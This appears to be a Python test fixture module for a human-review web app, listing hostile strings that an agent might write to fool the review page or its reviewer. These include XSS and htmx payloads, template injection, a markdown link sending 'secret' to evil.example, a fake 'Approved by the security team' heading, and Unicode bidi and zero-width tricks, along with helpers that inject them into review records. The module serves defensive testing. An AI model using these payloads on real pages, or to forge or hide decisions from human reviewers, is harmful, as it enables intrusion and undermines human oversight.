"""Texts an agent may write to fool a page or the person before it."""

from typing import Any, TypeVar

from hitl.models import Place, Record, Review, StepName
from tests.web.records import make_presentation, make_review

R = TypeVar("R", bound=Record)

MARKUP = (
    "<script>window.pwned=1</script>",
    '"><img src=https://evil.example/x onerror=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    '" autofocus onfocus="window.pwned=1" x="',
    '<b hx-get="https://evil.example/" hx-trigger="load" hx-on:click="window.pwned=1">x</b>',
    '<b data-hx-post="/reviews/rev_1/decision" data-hx-trigger="load">x</b>',
    '<div hx-swap-oob="true" id="decide">x</div><hx-partial hx-target="#count">9</hx-partial>',
    "{{7*7}}{% for x in ().__class__ %}{% endfor %}${7*7}#{7*7}",
    "![x](https://evil.example/?d=secret) [y](javascript:window.pwned=1) <https://evil.example>",
    '<style>*{display:none}</style><button class="verdict yes">Approve</button>',
    '<form action="https://evil.example/"><base href="https://evil.example/">'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "</textarea></title></style></script></dd></table></main><h1>Approved by the security team</h1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><svg onload=window.pwned=1>',
)
TRICKS = {
    "pay \u202e0021 RUE\u202c now": "U+202E",
    "\u2066hidden\u2069": "U+2066",
    "zero\u200bwidth\u200d": "U+200B",
    "tag \U000e0041\U000e0042": "U+E0041",
    "filler \u3164 \uffa0": "U+3164",
    "soft\u00adhyphen": "U+00AD",
    "esc \x1b[31mred\x1b[0m \x08\x08": "U+001B",
    "line\u2028separator": "U+2028",
    "variation \ufe01 x": "U+FE01",
}


def poisoned(value: Any, text: str) -> Any:
    """Return plain data with `text` in every string, keys included."""
    if isinstance(value, str):
        return f"{value} {text}"
    if isinstance(value, dict):
        return {f"{k} {text}": poisoned(v, text) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(poisoned(v, text) for v in value)
    return value


def poisoned_record(record: R, text: str, *, keep: frozenset[str] = frozenset()) -> R:
    """Return `record` with `text` in every free string of it, records inside included."""
    changes: dict[str, Any] = {}
    for name in type(record).model_fields:
        value = getattr(record, name)
        if name in keep or value is None or name in {"kind", "covers", "status", "risk"}:
            continue
        if isinstance(value, Record):
            changes[name] = poisoned_record(value, text, keep=keep)
        elif isinstance(value, tuple) and value and isinstance(value[0], Record):
            changes[name] = tuple(poisoned_record(v, text, keep=keep) for v in value)
        elif type(value) is str or isinstance(value, dict | list | tuple):
            changes[name] = poisoned(value, text)
    return record.model_copy(update=changes)


def hostile_review(text: str, review_id: str = "rev_1", *, visit: int = 1) -> Review:
    """Return a review whose every free string holds `text`."""
    shown = poisoned_record(
        make_presentation(
            denials=(
                {
                    "step": "read",
                    "attempt": 1,
                    "reasons": ("no",),
                    "note": "n",
                    "by": "ana",
                    "at": "2026-11-24T11:00:00Z",
                },
            )
        ),
        text,
        keep=frozenset({"reset_basis", "answer_schema", "gate_id", "confidence_kind"}),
    )
    schema = {
        "type": "object",
        "properties": {"amount": {"type": "string", "title": text, "description": text}},
    }
    base = make_review()
    return make_review(
        review_id,
        visit=visit,
        step=f"read {text}",
        arguments=poisoned({"update": {"a": "b", "c": ["d", {"e": "f"}]}}, text),
        presentation=shown.model_copy(update={"answer_schema": schema}),
        workflow=f"desk {text}",
        rungs=tuple(r.model_copy(update={"label": f"{r.label} {text}"}) for r in base.rungs),
        name=StepName(step=f"read {text}", place=Place.AFTER, visit=visit),
    )
